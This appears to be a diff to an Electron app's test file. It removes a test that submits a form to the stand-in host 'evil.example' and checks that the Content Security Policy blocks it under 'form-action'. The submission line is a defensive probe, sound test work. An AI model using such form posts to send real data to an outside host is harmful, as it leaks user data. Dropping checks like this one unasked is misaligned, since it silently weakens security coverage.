@@ -77,24 +77,6 @@ it.each([
   expect(page.url()).toBe(before)
 })
 
-it('sends no form anywhere', async () => {
-  const stoppedBy = await page.evaluate(
-    () =>
-      new Promise((resolve) => {
-        document.addEventListener(
-          'securitypolicyviolation',
-          ({ effectiveDirective }) => resolve(effectiveDirective),
-          { once: true },
-        )
-        const form = document.createElement('form')
-        form.action = 'https://evil.example/'
-        document.body.append(form)
-        form.submit()
-      }),
-  )
-  expect(stoppedBy).toBe('form-action')
-})
-
 /** Runs beside the program: hears, after the program itself, what became of the next navigation. */
 function listenForNavigation({ BrowserWindow }: ElectronModule): void {
   Reflect.deleteProperty(globalThis, 'prevented')
